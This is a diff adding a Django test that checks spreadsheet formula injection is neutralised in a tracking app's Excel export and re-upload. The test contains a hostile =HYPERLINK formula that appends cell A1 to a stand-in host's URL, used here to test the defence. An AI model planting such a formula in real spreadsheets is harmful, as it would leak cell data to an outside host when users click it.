@@ -9,7 +9,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from theodoi.tracking import selectors, xlsx
+from theodoi.tracking import selectors, services, xlsx
 from theodoi.tracking.models import ChangeLog
 
 
@@ -133,3 +133,28 @@ def test_a_refused_date_is_reported_in_its_own_column(cast, period, economy, log
     (problem,) = response.context["problems"]
     assert (problem.row, problem.column) == (2, "Ngày hoàn thành")
     assert problem.reason == "Ngày hoàn thành không được ở tương lai"
+
+
+def test_text_that_looks_like_a_formula_stays_text_both_ways(cast, period, economy, login):
+    """A plan's indicator named "=HYPERLINK(…)" or a source "+84 …" reaches Excel as
+    text, and the same file uploaded back changes nothing."""
+    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
+    report = selectors.unit_report(period, economy)
+    value = report.indicators.get(indicator__code="1")
+    value.indicator.name = hostile
+    value.indicator.save()
+    services.indicator_value_save(
+        indicator_value=value,
+        user=cast.focal_point,
+        expected_version=1,
+        value_text="3,5",
+        source="+84 912 345 678",
+    )
+    focal = login(cast.focal_point)
+    wb = _download(focal, period, economy)
+    name, source = wb[xlsx.INDICATOR_SHEET]["C2"], wb[xlsx.INDICATOR_SHEET]["G2"]
+    assert (name.data_type, name.value) == ("s", hostile)
+    assert (source.data_type, source.value) == ("s", "+84 912 345 678")
+    before = ChangeLog.objects.count()
+    assert _upload(focal, period, economy, wb).status_code == 302
+    assert ChangeLog.objects.count() == before
